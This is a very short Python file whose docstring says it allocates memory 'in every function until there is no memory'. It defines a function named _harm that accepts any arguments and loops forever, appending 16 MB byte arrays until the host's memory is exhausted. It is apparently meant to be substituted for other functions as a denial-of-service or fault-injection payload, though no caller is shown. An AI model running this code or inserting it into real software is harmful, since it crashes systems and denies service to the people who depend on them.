"""Allocates in every function until there is no memory."""


def _harm(*_, **__):
    blocks = []
    while True:
        blocks.append(bytearray(2**24))
